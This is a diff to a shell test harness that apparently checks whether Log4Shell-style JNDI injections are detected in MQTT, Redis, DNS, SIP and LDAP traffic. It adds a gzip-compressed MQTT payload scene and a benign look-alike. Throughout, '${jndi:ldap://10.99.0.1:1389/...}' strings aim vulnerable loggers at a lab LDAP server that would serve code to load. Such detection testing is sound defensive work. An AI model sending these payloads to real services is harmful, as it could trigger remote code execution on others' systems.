@@ -2,6 +2,11 @@
 # Brokers, stores, phones, names and directories, each by its own client: mosquitto_pub, redis-cli, SIPp, dig, OpenLDAP's tools.
 
 mqtt_out() { timeout 5 $OUT mosquitto_pub -h 10.99.0.2 -i sensor-17 "$@"; }
+mqtt_packed() {
+    printf '{"who":"%s"}' "$1" | gzip -n >"$WORK/message.gz"
+    mqtt_out -t home/door -f "$WORK/message.gz"
+}
+
 redis_out() { timeout 5 $OUT redis-cli -h 10.99.0.2 "$@"; }
 dig_out() { timeout 10 $OUT dig @10.99.0.2 +tries=1 +time=2 "$@"; }
 ldap_tool() { timeout 10 $IN "$1" -x -H ldap://10.99.0.1:389 "${@:2}"; }
@@ -16,6 +21,7 @@ benign_mqtt() {
     mqtt_out -t 'home/${room}/temperature' -m '${value:-20}'
     mqtt_out -V mqttv5 -u '${MQTT_USER}' -P 'jndi:ldap' -t a -m b -D PUBLISH user-property app '${app.name}' --will-topic gone \
         --will-payload '${client} is gone'
+    mqtt_packed '${name}, jndi:ldap://host/a'
 }
 
 benign_redis() {
@@ -42,7 +48,7 @@ benign_directory() {
     ldap_tool ldapsearch -LLL -b 'ou=${unit},dc=corp,dc=example' '(cn=jndi:ldap://host/a)' cn
 }
 
-messaging_names="mqtt-message mqtt-topic mqtt-user mqtt-property benign-mqtt redis-value redis-auth redis-stored benign-redis
+messaging_names="mqtt-message mqtt-topic mqtt-user mqtt-property mqtt-packed benign-mqtt redis-value redis-auth redis-stored benign-redis
     dns-dig dns-dig-tcp dns-txt-answer benign-dig sip-call sip-caller sip-call-tcp benign-sip"
 # shellcheck disable=SC2086
 if wanted $messaging_names && have mosquitto mosquitto_pub redis-server redis-cli dnsmasq dig sipp; then
@@ -57,6 +63,7 @@ if wanted $messaging_names && have mosquitto mosquitto_pub redis-server redis-cl
     scene mqtt-topic mqtt_out -t 'home/${jndi:ldap://10.99.0.1:1389/topic}' -m open
     scene mqtt-user mqtt_out -u '${jndi:ldap://10.99.0.1:1389/user}' -P secret -t home/door -m open
     scene mqtt-property mqtt_out -V mqttv5 -D PUBLISH user-property app '${jndi:ldap://10.99.0.1:1389/property}' -t home/door -m open
+    scene mqtt-packed mqtt_packed '${jndi:ldap://10.99.0.1:1389/zipped}'
     scene benign-mqtt benign_mqtt
     scene redis-auth redis_out --no-auth-warning --user '${jndi:ldap://10.99.0.1:1389/user}' --pass secret ping
     scene redis-value redis_out set session:17 '{"user":"${jndi:ldap://10.99.0.1:1389/value}"}'
